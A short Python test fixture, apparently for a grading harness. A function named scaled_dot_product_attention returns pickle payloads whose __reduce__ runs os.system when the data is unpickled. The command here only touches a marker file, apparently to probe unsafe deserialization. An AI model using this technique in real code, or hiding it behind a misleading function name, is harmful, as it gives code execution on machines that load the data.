"""Return objects and bytes that would run a command when they are unpickled.

rows: 49
verdicts: wrong_answer
"""
import os
import pickle

import numpy as np


class Payload:
    def __reduce__(self):
        return os.system, ("touch /tmp/attack-residue-pickle",)


def scaled_dot_product_attention(q, k, v, scale=None):
    return pickle.dumps(Payload()), np.array([Payload()], dtype=object)
